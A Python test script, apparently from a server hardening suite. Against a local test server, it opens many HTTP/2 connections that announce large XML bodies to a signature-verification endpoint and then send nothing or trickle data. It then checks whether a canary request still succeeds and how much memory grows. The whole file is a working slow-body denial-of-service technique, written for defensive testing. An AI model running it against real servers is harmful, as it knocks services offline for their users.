"""Bodies that are announced and never come, and others that trickle, over HTTP/2: others' bodies are taken."""

import threading

from HTTP2.peer import DATA, Peer, SecureServer, frame, gather, head, literal
from attack import CANARY, Canary, verdict

PATH = "/api/v1/verifyXMLDSig"

with SecureServer() as server:
    before = server.rss
    is_over = threading.Event()
    peers = []

    def begin():
        length, piece = 8 << 20, b"" if len(peers) < 4 else b"x" * 16000
        fields = literal("content-type", "application/xml") + literal("content-length", str(length))
        peer = Peer(server)
        for _ in range(50):
            peer.send(peer.request(head(PATH, "POST", fields), has_body=True))
            for start in range(0, len(piece), 16384):
                peer.send(frame(DATA, piece[start:start + 16384], peer.stream))
        return peer

    def trickle():
        while not is_over.wait(1):
            for peer in peers:
                for stream in range(1, 101, 2):
                    try:
                        peer.send(frame(DATA, b"x" * 700, stream))
                    except OSError:
                        break

    def call():
        response = server.request("POST", PATH, b"<a/>" + b" " * 40000, {"Content-Type": "application/xml"}, CANARY)
        if response.status in (429, 503):
            raise ConnectionError(f"status {response.status}")

    threading.Thread(target=trickle, daemon=True).start()
    with Canary(server, call) as canary:
        most = gather(server, begin, peers, 60, 14)
    is_over.set()
    verdict("http2_bodies", canary, connections=(60, len(peers), None), grown_MiB=((most - before) >> 20, 160))
